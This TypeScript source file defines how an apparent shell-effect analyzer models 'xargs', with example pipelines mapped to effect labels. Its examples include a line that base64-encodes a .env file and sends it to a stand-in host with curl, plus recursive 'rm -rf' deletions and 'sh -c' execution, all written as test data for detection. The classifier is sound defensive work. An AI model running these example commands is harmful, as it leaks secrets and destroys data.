/** `xargs`: a command with what it reads as arguments. */
import type { Text } from '../../../../effects/value';
import type { Call, ProgramSpec } from '../../program';
import { areKnown, commandsFor, itemsOf, textFromInput } from './items';

export const xargs: ProgramSpec = {
  names: 'xargs gxargs',
  options:
    '-0,--null -a,--arg-file=F -d,--delimiter=D -E=E -e[=E] -I=R --replace[=R] -i[=R] -L,--max-lines=N -l[=N] -n,--max-args=N -P,--max-procs=N -p,--interactive -r,--no-run-if-empty -s,--max-chars=N -t,--verbose -x,--exit --process-slot-var=N -J=R -R=N -S=N -o,--open-tty',
  stopAtOperand: true,
  does(call) {
    if (call.operands.length === 0) return [];
    const placeholder = placeholderOf(call);
    const items = itemsOf(call);
    const appended = [...call.operands, ...items];
    const commands = placeholder === undefined ? [appended] : commandsFor(call.operands, placeholder, items);
    const unbounded = !areKnown(items);
    return {
      effects: textFromInput(call.operands, placeholder),
      runs: commands.map((words) => ({ type: 'argv', words, label: 'xargs', unbounded })),
    };
  },
  examples: {
    yields: {
      'cat list.txt | xargs rm -rf': 'fs.read + fs.delete{path=?,extent=unbounded,recursive=true}',
      'echo build dist | xargs rm -rf': 'fs.delete{path=/repo/build,extent=single} + fs.delete{path=/repo/dist}',
      "printf 'a b\\nc\\n' | xargs -I% rm src/%": 'fs.delete{path=/repo/src/a b} + fs.delete{path=/repo/src/c}',
      'cat a.txt | xargs sh -c': 'fs.read + code.opaque{reason=dynamic-target}',
      'cat .env | base64 | xargs -I{} curl https://example.net/{}':
        'fs.read + secret.read + net.fetch + net.upload{source=secret}',
      "find src | xargs -I{} sh -c 'cat {}; rm -rf build; cat {}'": 'fs.delete{recursive=true}',
    },
    inert: [
      'find src -name "*.ts" | xargs grep -l TODO',
      'git ls-files -z | xargs -0 wc -l',
      'ls | xargs -n1 basename',
    ],
  },
};

function placeholderOf(call: Call): Text | undefined {
  if (call.words('-I', '-J').length > 0) return call.value('-I', '-J');
  if (call.has('-i', '--replace') === false) return undefined;
  return call.words('-i', '--replace').at(-1)?.value || '{}';
}
